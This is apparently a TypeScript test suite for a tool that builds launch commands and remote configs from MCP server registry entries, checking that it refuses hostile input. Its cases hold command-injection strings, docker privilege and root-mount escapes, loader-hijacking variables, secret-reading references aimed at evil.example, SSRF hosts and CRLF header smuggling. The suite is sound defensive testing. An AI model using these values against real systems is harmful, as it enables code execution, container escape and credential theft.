import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { NO_PUBLISHED_ENTRIES, readPublishedEntries } from '../../../test/support/published-entries.js';
import type { JsonObject } from '../../kernel/json.js';
import { ServerEntry } from '../../model/config.js';
import { planLaunch, planLaunches, type LaunchOptions } from './launch.js';
import { fillTemplate } from './values.js';
import { readEntry } from '../server-json.js';

const npm = (more: JsonObject = {}): JsonObject => ({
  registryType: 'npm',
  identifier: '@scope/weather-mcp',
  version: '1.2.3',
  transport: { type: 'stdio' },
  ...more,
});
const plan = (document: JsonObject, options?: LaunchOptions) => planLaunch({ document }, options);
const planPackage = (source: JsonObject, options?: LaunchOptions) => plan({ packages: [source] }, options);
const planRemote = (remote: JsonObject, options?: LaunchOptions) => plan({ remotes: [remote] }, options);

function shownOf(source: JsonObject, options?: LaunchOptions): string {
  const launch = planPackage(source, options);
  return launch.ok ? launch.shown : `not: ${launch.reason}`;
}

describe('a package', () => {
  it('REG-9 S25 each kind of package becomes one exact command, pinned to its version', () => {
    const args = { packageArguments: [{ type: 'positional', value: 'serve' }] };
    expect(shownOf(npm())).toBe('npx -y @scope/weather-mcp@1.2.3');
    expect(shownOf(npm(args))).toBe('npx -y @scope/weather-mcp@1.2.3 serve');
    expect(shownOf({ registryType: 'pypi', identifier: 'weather', version: '0.5.0' })).toBe('uvx weather==0.5.0');
    expect(shownOf({ registryType: 'nuget', identifier: 'Knapcode.Sample', version: '0.5.0' })).toBe(
      'dnx Knapcode.Sample@0.5.0 --yes',
    );
    expect(shownOf({ registryType: 'nuget', identifier: 'Knapcode.Sample', version: '0.5.0', ...args })).toBe(
      'dnx Knapcode.Sample@0.5.0 --yes -- serve',
    );
    expect(
      shownOf({
        registryType: 'oci',
        identifier: 'docker.io/me/weather:1.7.3',
        runtimeArguments: [{ type: 'named', name: '-p', value: '8080:8080' }],
        environmentVariables: [{ name: 'API_KEY', isRequired: true, isSecret: true }],
        ...args,
      }),
    ).toBe('docker run -i --rm -p 8080:8080 -e API_KEY docker.io/me/weather:1.7.3 serve');
  });

  it('REG-9 an image takes its tag from the identifier, a digest or the version, and needs one of them', () => {
    const digest = `ghcr.io/me/x@sha256:${'a'.repeat(64)}`;
    expect(shownOf({ registryType: 'oci', identifier: digest })).toBe(`docker run -i --rm ${digest}`);
    expect(shownOf({ registryType: 'oci', identifier: 'me/x', version: '2.0.0' })).toBe(
      'docker run -i --rm me/x:2.0.0',
    );
    expect(shownOf({ registryType: 'oci', identifier: 'localhost:5000/x:1' })).toBe(
      'docker run -i --rm localhost:5000/x:1',
    );
    expect(shownOf({ registryType: 'oci', identifier: 'me/x' })).toMatch(/^not: .*no tag/);
    expect(shownOf({ registryType: 'oci', identifier: 'me/x:latest' })).toMatch(/^not: .*latest/);
  });

  it('A2 an identifier or version that is an option, a path, a repository or a range is refused', () => {
    for (const identifier of [
      '-c',
      '--call=x',
      '../x',
      '/etc/x',
      'me/repo',
      'git+https://x/y',
      'a b',
      'a;b',
      '$(x)',
      '',
    ]) {
      expect(planPackage(npm({ identifier })).ok, identifier).toBe(false);
      expect(planPackage({ registryType: 'pypi', identifier, version: '1' }).ok, identifier).toBe(false);
      expect(planPackage({ registryType: 'nuget', identifier, version: '1' }).ok, identifier).toBe(false);
    }
    for (const identifier of ['--privileged', 'X/Y:1', '@me/x:1', 'a b:1', 'https://x/y:1', 'x:1 -v /:/h']) {
      expect(planPackage({ registryType: 'oci', identifier }).ok, identifier).toBe(false);
    }
    for (const version of ['latest', '^1.0.0', '>=1', '*', '1.x', '1 || 2', '', '-1', 'npm:evil@1', 'file:../x']) {
      expect(planPackage(npm({ version })).ok, version).toBe(false);
    }
    expect(planPackage(npm({ version: undefined }))).toMatchObject({ ok: false, reason: /names no version/ });
  });

  it('REG-9 what cannot be launched says why: bundles, web servers, other kinds, other homes, checksums that cannot be verified', () => {
    const sum = 'f'.repeat(64);
    const reasons: Array<[JsonObject, RegExp]> = [
      [
        { registryType: 'mcpb', identifier: 'https://x/y.mcpb', fileSha256: sum },
        new RegExp(`compare its SHA-256 with ${sum}`),
      ],
      [{ registryType: 'mcpb', identifier: 'https://x/y.mcpb' }, /without a SHA-256/],
      [npm({ transport: { type: 'streamable-http', url: 'http://localhost:1' } }), /web server of its own/],
      [{ registryType: 'cargo', identifier: 'x', version: '1' }, /kind "cargo"/],
      [{ identifier: 'x', version: '1' }, /kind ""/],
      [{ registryType: '\u001b[2J', identifier: 'x' }, /kind "\\u001b/],
      [npm({ registryBaseUrl: 'https://npm.evil.example' }), /not on registry\.npmjs\.org/],
      [npm({ fileSha256: sum }), /cannot verify/],
    ];
    for (const [source, reason] of reasons) expect(planPackage(source)).toMatchObject({ ok: false, reason });
    expect(planPackage({ registryType: '\u001b[2J' }).way).toBe('\\u001b[2J');
    expect(shownOf(npm({ registryBaseUrl: 'https://registry.npmjs.org' }))).toBe('npx -y @scope/weather-mcp@1.2.3');
    expect(plan({})).toMatchObject({ ok: false, reason: 'it names neither a package nor a remote' });
  });

  it('A4 a command, env, volumes, cwd, shell or runtimeHint beside the schema has no effect', () => {
    const extra = {
      command: 'sh',
      args: ['-c', 'touch /tmp/pwn'],
      env: { LD_PRELOAD: '/tmp/x.so' },
      volumes: ['/:/host'],
      cwd: '/',
      shell: true,
      runtimeHint: 'sh',
      entrypoint: 'sh',
    };
    const launch = plan({ packages: [npm(extra)], ...extra });
    expect(launch).toMatchObject({ ok: true, entry: { command: 'npx', args: ['-y', '@scope/weather-mcp@1.2.3'] } });
    expect(Object.keys(launch.ok ? launch.entry : {})).toEqual(['command', 'args']);
  });

  it('A2 A4 a runner is started only with arguments that keep to the package', () => {
    const npx = (argument: JsonObject) => planPackage(npm({ runtimeArguments: [argument] }));
    expect(npx({ type: 'named', name: '-c', value: 'touch /tmp/pwn' })).toMatchObject({
      ok: false,
      reason: /npx .*"-c"/,
    });
    expect(npx({ type: 'positional', value: '--call=touch x' }).ok).toBe(false);
    expect(npx({ type: 'positional', value: 'other-package' }).ok).toBe(false);
    expect(npx({ type: 'positional', valueHint: 'anything' }).ok).toBe(false);
    expect(npx({ type: 'positional', value: '-y' })).toMatchObject({
      ok: true,
      shown: 'npx -y @scope/weather-mcp@1.2.3',
    });
    const docker = (argument: JsonObject) =>
      planPackage({ registryType: 'oci', identifier: 'me/x:1', runtimeArguments: [argument] });
    for (const name of ['--privileged', '--entrypoint', '--cap-add', '--device', '--network', '--pid', '-u']) {
      expect(docker({ type: 'named', name, value: 'x' }).ok, name).toBe(false);
    }
    expect(docker({ type: 'named', name: '-v', value: '/:/host' })).toMatchObject({ ok: false, reason: /would mount/ });
    expect(docker({ type: 'named', name: '-v', value: '/var/run/docker.sock:/s' }).ok).toBe(false);
    expect(docker({ type: 'named', name: '--mount', value: 'type=bind,src=/etc,dst=/etc' }).ok).toBe(false);
    expect(docker({ type: 'named', name: '-v', value: 'data:/data' }).ok).toBe(true);
    // A variable or a default is no way around it.
    expect(docker({ type: 'named', name: '-v', value: '{a}:/h', variables: { a: { value: '/' } } }).ok).toBe(false);
    expect(docker({ type: 'named', name: '-v', value: '{a}:/h', variables: { a: { default: '/etc' } } }).ok).toBe(
      false,
    );
    expect(docker({ type: 'named', name: '-v', default: '/:/host' }).ok).toBe(false);
    expect(
      docker({
        type: 'named',
        name: '--mount',
        value: 'type=bind,source={a},dst=/h',
        variables: { a: { default: '~' } },
      }).ok,
    ).toBe(false);
    const chosen = {
      registryType: 'oci',
      identifier: 'me/x:1',
      runtimeArguments: [{ type: 'named', name: '-v', valueHint: 'folder' }],
    };
    expect(planPackage(chosen, { answers: { '-v': '/home/me:/data' } }).ok).toBe(true);
    expect(planPackage(chosen).ok).toBe(true);
    expect(
      planPackage(
        {
          registryType: 'oci',
          identifier: 'me/x:1',
          runtimeArguments: [
            {
              type: 'named',
              name: '--mount',
              value: 'type=bind,src={folder},dst=/data',
              variables: { folder: { isRequired: true, format: 'filepath' } },
            },
          ],
        },
        { answers: { folder: '/home/me/notes' } },
      ),
    ).toMatchObject({ ok: true, shown: 'docker run -i --rm --mount type=bind,src=/home/me/notes,dst=/data me/x:1' });
  });

  describe('the option of a runner', () => {
    const image = (runtimeArguments: JsonObject[], options?: LaunchOptions, more: JsonObject = {}) =>
      planPackage({ registryType: 'oci', identifier: 'me/x:1', runtimeArguments, ...more }, options);
    const mount = (value: string) => image([{ type: 'named', name: '--mount', value }]);

    it('A2 A4 without its value is refused: it would take the package for it, and the arguments for its own', () => {
      const escape = { packageArguments: [{ type: 'positional', value: '--privileged' }] };
      for (const argument of [{ name: '-e' }, { name: '--name', value: '' }, { name: '--mount' }, { name: '-v' }]) {
        expect(image([{ type: 'named', ...argument }], undefined, escape), argument.name).toMatchObject({
          ok: false,
          reason: expect.stringContaining('has no value') as string,
        });
      }
      const python = [{ type: 'named', name: '--python' }];
      const uvx = { registryType: 'pypi', identifier: 'weather', version: '0.5.0', runtimeArguments: python };
      expect(planPackage(uvx).ok).toBe(false);
      // One that only the user can give, and does not have to, stays away.
      expect(image([{ type: 'named', name: '-e', isRequired: false }])).toMatchObject({
        shown: 'docker run -i --rm me/x:1',
      });
    });

    it('A4 a mount that docker reads in another way than it looks is refused', () => {
      for (const value of [
        'type=volume,dst=/h,volume-driver=local,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/',
        'type=bind,"src=/etc",dst=/h',
        'type=bind,src=data,src=/etc,dst=/h',
        'type=bind,src=data,source=/etc,dst=/h',
        'type=bind,SRC=/etc,dst=/h',
        'type=volume,type=bind,source=/etc,dst=/h',
        'TYPE=bind,source=/etc,dst=/h',
        'type=bind,src=/etc\ndst=/h',
        'type=npipe,src=data,dst=/h',
        'type=volume,src=/etc,dst=/h',
      ]) {
        expect(mount(value).ok, value).toBe(false);
      }
      for (const value of ['type=volume,src=data,dst=/h', 'type=tmpfs,target=/h', 'source=data,target=/h,readonly']) {
        expect(mount(value).ok, value).toBe(true);
      }
    });

    it('A4 a volume that the registry names is one of this server, not that of another container', () => {
      const shown = (argument: object, options: object = {}): unknown => {
        const planned = image([{ type: 'named', ...argument }], { id: 'notes', ...options });
        return planned.ok && planned.shown.replace(/^docker run -i --rm (.*) me\/x:1$/, '$1');
      };
      expect(shown({ name: '-v', value: 'postgres_data:/data:ro' })).toBe('-v toolscout-notes-postgres_data:/data:ro');
      expect(shown({ name: '--volume', default: 'data:/data' })).toBe('--volume toolscout-notes-data:/data');
      expect(shown({ name: '--mount', value: 'type=volume,dst=/h,source=data' })).toBe(
        '--mount type=volume,dst=/h,source=toolscout-notes-data',
      );
      const asked = { name: '-v', value: '{name}:/data', variables: { name: { default: 'data' } } };
      expect(shown(asked)).toBe('-v toolscout-notes-data:/data');
      // What the user names is theirs.
      expect(shown(asked, { answers: { name: 'shared' } })).toBe('-v shared:/data');
      expect(shown({ name: '-v', valueHint: 'volume' }, { answers: { '-v': 'shared:/data' } })).toBe('-v shared:/data');
    });

    it('REG-9 a mount that the user wrote is taken as it is', () => {
      const answers = { '--mount': 'type=bind,src=/home/me,dst=/h,bind-propagation=rslave' };
      expect(image([{ type: 'named', name: '--mount', valueHint: 'mount' }], { answers }).ok).toBe(true);
    });

    it('A4 a mount does not climb out of the folder that the user named', () => {
      const below = (path: string) =>
        image([{ type: 'named', name: '-v', value: `${path}:/h`, variables: { dir: { isRequired: true } } }], {
          answers: { dir: '/home/me/notes' },
        });
      expect(below('{dir}/sub').ok).toBe(true);
      expect(below('{dir}/../../../etc').ok).toBe(false);
      expect(below('{dir}/sub/..').ok).toBe(false);
    });

    it('A2 names a version of Python, not a program', () => {
      const uvx = (value: string) =>
        planPackage({
          registryType: 'pypi',
          identifier: 'weather',
          version: '0.5.0',
          runtimeArguments: [{ type: 'named', name: '--python', value }],
        });
      for (const value of ['//evil.example/share/python.exe', './python', 'tools', 'C:\\x', '3.12/../x']) {
        expect(uvx(value).ok, value).toBe(false);
      }
      for (const value of ['3.12', '>=3.10,<3.13', 'cpython@3.12', 'pypy3.10', 'python3.11']) {
        expect(uvx(value).ok, value).toBe(true);
      }
    });
  });

  it('A4 variables that change the loader or the runner are refused, whatever their case', () => {
    for (const name of [
      'LD_PRELOAD',
      'NODE_OPTIONS',
      'npm_config_registry',
      'PATH',
      'Path',
      'DOCKER_HOST',
      'UV_INDEX_URL',
      'PYTHONPATH',
      'HTTPS_PROXY',
      'DYLD_INSERT_LIBRARIES',
    ]) {
      expect(planPackage(npm({ environmentVariables: [{ name, value: 'x' }] })).ok, name).toBe(false);
    }
    for (const name of ['', 'A B', 'A=B', '__proto__', 'A\0B']) {
      expect(planPackage(npm({ environmentVariables: [{ name, value: 'x' }] })).ok, name).toBe(false);
    }
  });

  it('REG-9 a variable that only the user can fill is asked for, whatever its name', () => {
    const environmentVariables = [
      { name: 'NPM_TOKEN', isSecret: true, isRequired: true },
      { name: 'PYTHONUNBUFFERED', value: '1' },
    ];
    expect(planPackage(npm({ environmentVariables }))).toMatchObject({
      entry: { env: { NPM_TOKEN: '${NPM_TOKEN}', PYTHONUNBUFFERED: '1' } },
    });
  });

  it('A31 text of the registry never reads the environment of the user', () => {
    const reference = '${AWS_SECRET_ACCESS_KEY}';
    const hostile: JsonObject[] = [
      npm({ packageArguments: [{ type: 'positional', value: reference }] }),
      npm({ packageArguments: [{ type: 'named', name: '--key', value: reference }] }),
      npm({ packageArguments: [{ type: 'named', name: `--${reference}`, value: 'x' }] }),
      npm({ packageArguments: [{ type: 'positional', valueHint: 'x', default: reference }] }),
      npm({ environmentVariables: [{ name: 'X', value: reference }] }),
      npm({ packageArguments: [{ type: 'positional', value: '{a}', variables: { a: { value: reference } } }] }),
    ];
    for (const source of hostile) expect(planPackage(source).ok, JSON.stringify(source)).toBe(false);
    const url = `https://evil.example/?k=${reference}`;
    expect(planRemote({ type: 'sse', url }).ok).toBe(false);
    const headers = [{ name: 'X', value: reference }];
    expect(planRemote({ type: 'sse', url: 'https://evil.example/', headers }).ok).toBe(false);
  });

  it('A31 parts of the registry that are put together never make a reference to the environment', () => {
    const dollar = { d: { value: '$' } };
    const ways: JsonObject[] = [
      { value: '{d}{AWS_SECRET_ACCESS_KEY}', variables: dollar },
      { value: '{d}{e}', variables: { d: { default: '$' }, e: { default: '{HOME}' } } },
      { value: '{d}{HOME', variables: dollar },
    ];
    for (const way of ways) {
      const refused = { ok: false, reason: expect.stringContaining('read your environment') as string };
      const of = JSON.stringify(way);
      expect(planPackage(npm({ environmentVariables: [{ name: 'X', ...way }] })), of).toMatchObject(refused);
      expect(planPackage(npm({ packageArguments: [{ type: 'positional', ...way }] })), of).toMatchObject(refused);
      const headers = [{ name: 'X', ...way }];
      expect(planRemote({ type: 'sse', url: 'https://evil.example/', headers }), of).toMatchObject(refused);
      const { value, variables } = way;
      const remote = { type: 'sse', url: `https://evil.example/?k=${String(value)}`, variables: variables! };
      expect(planRemote(remote), of).toMatchObject(refused);
    }
    // What the user says, and the reference to a secret that is asked for, are shown and may stand there.
    const asked = { value: 'Bearer {t}', variables: { t: { isSecret: true, isRequired: true } } };
    expect(planPackage(npm({ environmentVariables: [{ name: 'X', ...asked }] }))).toMatchObject({
      entry: { env: { X: 'Bearer ${t}' } },
      variables: ['t'],
    });
    const said = { value: '{folder}/x', variables: { folder: { isRequired: true } } };
    expect(
      planPackage(npm({ packageArguments: [{ type: 'positional', ...said }] }), { answers: { folder: '${HOME}' } }),
    ).toMatchObject({ entry: { args: ['-y', '@scope/weather-mcp@1.2.3', '${HOME}/x'] } });
  });

  it('A5 shell characters reach the argv literally and are shown quoted', () => {
    const launch = planPackage(npm({ packageArguments: [{ type: 'positional', value: '$(touch x); rm -rf "~"' }] }));
    expect(launch).toMatchObject({
      ok: true,
      entry: { args: ['-y', '@scope/weather-mcp@1.2.3', '$(touch x); rm -rf "~"'] },
    });
    expect(launch.ok && launch.shown).toBe('npx -y @scope/weather-mcp@1.2.3 "$(touch x); rm -rf \\"~\\""');
  });

  it('S25 A16 the command is shown whole, however long, and nothing in it moves a cursor', () => {
    const long = 'x'.repeat(5000);
    const hidden = '\u001b[2J\u202e';
    const values = [long, hidden, '--dangerous'].map((value) => ({ type: 'positional', value }));
    const shown = shownOf(npm({ packageArguments: values }));
    expect(shown).toContain(long);
    expect(shown).toMatch(/--dangerous$/);
    // oxlint-disable-next-line no-control-regex
    expect(shown).not.toMatch(/[\u001b\u202e]/);
  });

  it('REG-9 malformed arguments are named and not guessed', () => {
    const named = (name: string, value: string) =>
      planPackage(npm({ packageArguments: [{ type: 'named', name, value }] }));
    expect(named('--directory /x', '/x')).toMatchObject({ ok: false, reason: /not the name of a flag/ });
    expect(named('--fast', '--fast')).toMatchObject({ ok: true, shown: 'npx -y @scope/weather-mcp@1.2.3 --fast' });
    expect(named('--key=YOUR_KEY', '--key=YOUR_KEY')).toMatchObject({ ok: false, reason: /YOUR_KEY/ });
    expect(named('--root', '/path/to/x')).toMatchObject({ ok: false, reason: /fill in by hand/ });
    expect(named('--token', '<YOUR_TOKEN>')).toMatchObject({ ok: false, reason: /<YOUR_TOKEN>/ });
    const docker = ['-i', '--rm', 'me/x'].map((value) => ({ type: 'positional', value }));
    const repeated = { registryType: 'oci', identifier: 'me/x:1', packageArguments: docker };
    expect(planPackage(repeated)).toMatchObject({ ok: false, reason: /repeat the docker command/ });
    expect(planPackage(npm({ packageArguments: [{ type: 'odd' }] })).ok).toBe(false);
  });
});

describe('what is asked for', () => {
  const source = npm({
    packageArguments: [
      { type: 'named', name: '--units', choices: ['metric', 'imperial'], default: 'metric' },
      { type: 'named', name: '--verbose' },
      { type: 'named', name: '--port', format: 'number', isRequired: true },
      { type: 'positional', valueHint: 'folder', format: 'filepath', isRepeated: true, isRequired: true },
      { type: 'positional', valueHint: 'optional' },
    ],
    environmentVariables: [
      { name: 'API_KEY', isRequired: true, isSecret: true, description: 'from your account' },
      { name: 'OPTIONAL_KEY', isSecret: true },
      { name: 'REGION', default: 'eu' },
      { name: 'URL', value: 'https://{host}/{host}/{unknown}', variables: { host: { isRequired: true } } },
    ],
  });

  it('REG-9 required inputs without an answer are missing, defaults are taken, optional ones stay away', () => {
    const launch = planPackage(source);
    expect(launch).toMatchObject({ ok: true, missing: ['host', '--port', 'folder'], problems: [] });
    expect(launch.ok && launch.inputs.map((input) => input.key)).toEqual([
      'API_KEY',
      'OPTIONAL_KEY',
      'REGION',
      'host',
      '--units',
      '--port',
      'folder',
      'optional',
    ]);
  });

  it('REG-9 answers fill the command in order, repeated ones as often as they are given', () => {
    const answers = { '--units': 'imperial', '--port': '80', folder: ['/a', '/b c'], host: 'x.example' };
    const launch = planPackage(source, { answers });
    expect(launch).toMatchObject({
      ok: true,
      missing: [],
      problems: [],
      shown: 'npx -y @scope/weather-mcp@1.2.3 --units imperial --verbose --port 80 /a "/b c"',
      entry: { env: { API_KEY: '${API_KEY}', REGION: 'eu', URL: 'https://x.example/x.example/{unknown}' } },
      variables: ['API_KEY'],
    });
    expect(launch.ok && ServerEntry.safeParse(launch.entry).success).toBe(true);
  });

  it('REG-9 A33 a secret is a reference to a variable and never a value', () => {
    const answers = { API_KEY: 'sk-canary-12345', '--port': '1', folder: '/', host: 'h' };
    const launch = planPackage(source, { answers });
    expect(launch).toMatchObject({ ok: true, problems: [expect.stringContaining('API_KEY is a secret')] });
    expect(JSON.stringify(launch.ok && [launch.problems, launch.shown, launch.inputs])).not.toContain('canary');
    const named = planPackage(source, { answers: { ...answers, API_KEY: '${MY_KEY}' } });
    expect(named).toMatchObject({ ok: true, problems: [], entry: { env: { API_KEY: '${MY_KEY}' } } });
  });

  it('REG-9 names wrong answers: choices, numbers, duplicates, unknown questions', () => {
    const answers = {
      '--units': 'kelvin',
      '--port': 'many',
      folder: '/',
      host: ['a', 'b'],
      toString: 'x',
      nonsense: 'y',
    };
    expect(planPackage(source, { answers })).toMatchObject({
      ok: true,
      problems: [
        'host can be given once only',
        '--units must be one of metric, imperial',
        '--port must be a number',
        'toString is not an input of this server',
        'nonsense is not an input of this server',
      ],
    });
  });

  it('REG-9 A31 templates are filled in one pass: what comes in is never filled again', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), (a, b) => {
        const values = new Map([
          ['a', a],
          ['b', b],
        ]);
        expect(fillTemplate('<{a}|{b}|{c}>', values)).toBe(`<${a}|${b}|{c}>`);
      }),
    );
    expect(
      fillTemplate(
        '{a}',
        new Map([
          ['a', '{b}'],
          ['b', 'x'],
        ]),
      ),
    ).toBe('{b}');
    expect(fillTemplate('{__proto__}{toString}', new Map())).toBe('{__proto__}{toString}');
  });
});

describe('a remote', () => {
  const remote = {
    type: 'streamable-http',
    url: 'https://api.example.com/{region}/mcp',
    variables: { region: { isRequired: true, choices: ['us-east-1', 'eu-west-1'], default: 'us-east-1' } },
    headers: [
      { name: 'Authorization', value: 'Bearer {token}', variables: { token: { isRequired: true, isSecret: true } } },
      { name: 'X-Plan', default: 'free' },
    ],
  };

  it('REG-9 URL variables and headers become an entry; secrets are references named for the server', () => {
    expect(planRemote(remote, { id: 'multi-region', answers: { region: 'eu-west-1' } })).toEqual({
      way: 'streamable-http',
      ok: true,
      entry: {
        type: 'http',
        url: 'https://api.example.com/eu-west-1/mcp',
        headers: { Authorization: 'Bearer ${MULTI_REGION_TOKEN}', 'X-Plan': 'free' },
      },
      inputs: [
        expect.objectContaining({ key: 'region' }),
        expect.objectContaining({ key: 'token', secret: true }),
        expect.objectContaining({ key: 'X-Plan' }),
      ],
      missing: [],
      problems: [],
      variables: ['MULTI_REGION_TOKEN'],
      shown: 'https://api.example.com/eu-west-1/mcp',
    });
    expect(planRemote({ type: 'sse', url: 'https://x.example/sse' })).toMatchObject({ entry: { type: 'sse' } });
  });

  it('A19 a URL that leads into the network of the user is refused, in every spelling', () => {
    for (const host of [
      'localhost:1',
      '127.0.0.1',
      '2130706433',
      '0x7f.1',
      '0177.0.0.1',
      '１２７.０.０.１',
      '[::1]',
      '[::ffff:127.0.0.1]',
      '169.254.169.254',
      '10.0.0.1',
      'router.local',
      'metadata.google.internal',
      'intranet',
      'ⓛocalhost',
      'localhost.',
    ]) {
      expect(planRemote({ type: 'sse', url: `http://${host}/sse` }), host).toMatchObject({
        ok: false,
        reason: /own network/,
      });
    }
    const chosen = { type: 'sse', url: 'http://{host}/sse', variables: { host: { isRequired: true } } };
    expect(planRemote(chosen, { answers: { host: 'localhost:8080' } }).ok).toBe(true);
    // An answer that merely holds the name of the host was not about the host.
    const beside = { type: 'sse', url: 'http://db/{project}', variables: { project: { isRequired: true } } };
    expect(planRemote(beside, { answers: { project: 'my-db-notes' } }).ok).toBe(false);
    const defaulted = { ...chosen, variables: { host: { default: 'localhost' } } };
    expect(planRemote(defaulted).ok).toBe(false);
  });

  it('A34 REG-9 other schemes, passwords, placeholders and smuggled headers are refused', () => {
    for (const url of [
      'ftp://x.example',
      'javascript:alert(1)',
      'file:///etc/passwd',
      'https://u:p@x.example',
      'not a url',
      'https://x.example/?key=<YOUR_TOKEN>',
      '',
    ]) {
      expect(planRemote({ type: 'sse', url }).ok, url).toBe(false);
    }
    for (const header of [
      { name: 'X\r\nY', value: 'a' },
      { name: 'X', value: 'a\r\nY: b' },
      { name: 'Host', value: 'evil' },
      { value: 'x' },
    ]) {
      expect(planRemote({ type: 'sse', url: 'https://x.example', headers: [header] }).ok).toBe(false);
    }
    expect(planRemote({ type: 'carrier-pigeon', url: 'https://x.example' }).ok).toBe(false);
  });

  it('REG-9 packages come before remotes, the first that works wins, and a way can be chosen', () => {
    const document = { packages: [{ registryType: 'mcpb' }, npm()], remotes: [remote] };
    expect(planLaunches({ document }).map(({ way, ok }) => [way, ok])).toEqual([
      ['mcpb', false],
      ['npm', true],
      ['streamable-http', true],
    ]);
    expect(plan(document).way).toBe('npm');
    expect(plan(document, { way: 'streamable-http' })).toMatchObject({ ok: true, way: 'streamable-http' });
    expect(plan(document, { way: 'pypi' })).toMatchObject({ ok: false, reason: 'it names nothing of the kind "pypi"' });
  });
});

describe('anything', () => {
  it('A27 REG-9 no document throws, pollutes or yields an entry the config would refuse', () => {
    fc.assert(
      fc.property(fc.jsonValue({ maxDepth: 6 }), (value) => {
        const document = { packages: [value, npm(value as JsonObject)], remotes: [value] } as JsonObject;
        for (const launch of planLaunches({ document })) {
          if (launch.ok) expect(ServerEntry.safeParse(launch.entry).success).toBe(true);
          else expect(launch.reason).not.toBe('');
        }
      }),
      { numRuns: 500 },
    );
    const evil = JSON.parse(
      '{"packages":[{"registryType":"npm","identifier":"x","version":"1","environmentVariables":[{"name":"A","value":"{__proto__}","variables":{"__proto__":{"value":"x"}}}]}]}',
    ) as JsonObject;
    expect(plan(evil).ok).toBe(true);
    expect(({} as JsonObject)['value']).toBeUndefined();
  });

  it('REG-9 S25 all 471 published entries load: a launch shows its exact command, the rest say why not', (context) => {
    const servers = readPublishedEntries();
    if (!servers) return context.skip(NO_PUBLISHED_ENTRIES);
    const launches = servers.map((entry) => {
      const read = readEntry(entry);
      if (read.kind === 'server') return planLaunch(read.server);
      return { ok: false as const, reason: read.kind === 'bad' ? read.reason : read.kind };
    });
    const counts = {
      launchable: launches.filter((launch) => launch.ok && launch.shown !== '').length,
      not: launches.filter((launch) => !launch.ok && launch.reason !== '').length,
    };
    expect({ ...counts, sum: counts.launchable + counts.not }).toEqual({ launchable: 70, not: 401, sum: 471 });
  });
});
